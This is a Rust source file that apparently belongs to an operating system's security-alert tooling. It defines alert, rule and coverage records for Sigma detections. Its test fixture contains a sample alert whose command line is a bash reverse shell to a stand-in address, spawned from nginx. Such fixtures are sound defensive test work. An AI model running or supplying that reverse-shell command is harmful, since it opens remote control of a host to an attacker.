//! Alerts and rules as the commands see them.

use std::collections::BTreeMap;

use quantumos_dbus::{Dictionary, security::AlertRaisedArgs};
use serde::{Deserialize, Serialize};

use crate::{error::Error, text::value};

/// An alert. Times are microseconds of the real-time clock. What a signal leaves out is empty.
#[derive(Clone, Debug, Default, Deserialize, PartialEq, Serialize)]
#[serde(default, rename_all(deserialize = "PascalCase"))]
pub struct Alert {
    /// Identifier.
    pub id: String,
    /// The rule's own id.
    pub rule_id: String,
    /// The rule's title.
    pub title: String,
    /// `informational`, `low`, `medium`, `high` or `critical`.
    pub level: String,
    /// Newest occurrence.
    pub time: u64,
    /// How many equal alerts are folded into this one.
    pub count: u32,
    /// Class of event.
    pub class: String,
    /// Process id.
    pub pid: u32,
    /// User id.
    pub uid: u32,
    /// User name.
    pub user: String,
    /// systemd unit, or empty.
    pub unit: String,
    /// Path of the executable.
    pub executable: String,
    /// Command line, secrets masked.
    pub command_line: String,
    /// Pid, comm and executable of each ancestor, nearest first.
    pub ancestors: Vec<(u32, String, String)>,
    /// The rule's tags.
    pub tags: Vec<String>,
    /// The event's fields by Sigma name.
    pub fields: BTreeMap<String, String>,
    /// Which selections matched, and on what.
    pub explanation: String,
    /// Object path.
    #[serde(skip_deserializing)]
    pub path: String,
}

impl Alert {
    /// From the properties of the object at `path`.
    pub fn new(path: &str, properties: &Dictionary) -> Result<Self, Error> {
        let mut alert: Self = value::record(path, properties)?;
        alert.path = path.to_owned();
        if alert.id.is_empty() {
            alert.id = path.rsplit('/').next().unwrap_or_default().to_owned();
        }
        Ok(alert)
    }

    /// From what came with the signal that raised it.
    pub fn raised(signal: &AlertRaisedArgs<'_>) -> Result<Self, Error> {
        let details = signal
            .details()
            .iter()
            .map(|(key, value)| Ok((key.clone(), value.try_to_owned()?)))
            .collect::<Result<_, zbus::Error>>()?;
        Self::new(signal.alert().as_str(), &details)
    }

    /// What ran: the command line, or the executable where there is none.
    pub fn command(&self) -> &str {
        if self.command_line.is_empty() {
            &self.executable
        } else {
            &self.command_line
        }
    }
}

/// A Sigma level as a number, so that levels compare; levels not known rank lowest.
pub fn level_rank(level: &str) -> u8 {
    match level {
        "critical" => 5,
        "high" => 4,
        "medium" => 3,
        "low" => 2,
        "informational" => 1,
        _ => 0,
    }
}

/// A rule and what became of it.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Rule {
    /// The rule's own id.
    pub id: String,
    /// Its title.
    pub title: String,
    /// Its level.
    pub level: String,
    /// `loaded`, `not-applicable` or `failed`.
    pub fate: String,
    /// Why not loaded.
    pub reason: String,
}

impl From<(String, String, String, String, String)> for Rule {
    fn from(row: (String, String, String, String, String)) -> Self {
        Self {
            id: row.0,
            title: row.1,
            level: row.2,
            fate: row.3,
            reason: row.4,
        }
    }
}

/// A class of event and how it is seen.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Coverage {
    /// Class of event.
    pub class: String,
    /// Hook in the kernel.
    pub hook: String,
    /// Whether it works.
    pub state: String,
    /// Why not.
    pub reason: String,
}

impl From<(String, String, String, String)> for Coverage {
    fn from(row: (String, String, String, String)) -> Self {
        Self {
            class: row.0,
            hook: row.1,
            state: row.2,
            reason: row.3,
        }
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// An alert for tests.
    pub fn alert() -> Alert {
        Alert {
            id: "17".into(),
            rule_id: "r-1".into(),
            title: "Interactive shell from a service".into(),
            level: "high".into(),
            time: 1_763_726_400_000_000,
            count: 3,
            class: "process_creation".into(),
            pid: 4242,
            uid: 33,
            user: "www-data".into(),
            unit: "nginx.service".into(),
            executable: "/usr/bin/bash".into(),
            command_line: "bash -i >& /dev/tcp/192.0.2.1/4444".into(),
            ancestors: vec![(100, "nginx".into(), "/usr/sbin/nginx".into())],
            tags: vec!["attack.execution".into(), "attack.t1059.004".into()],
            fields: BTreeMap::from([("Image".into(), "/usr/bin/bash".into())]),
            explanation: "selection: CommandLine contains /dev/tcp/".into(),
            path: "/org/quantumos/security/alerts/17".into(),
        }
    }

    #[test]
    fn levels_compare() {
        let ordered = ["?", "informational", "low", "medium", "high", "critical"];
        assert!(ordered.is_sorted_by(|a, b| level_rank(a) < level_rank(b)));
    }
}
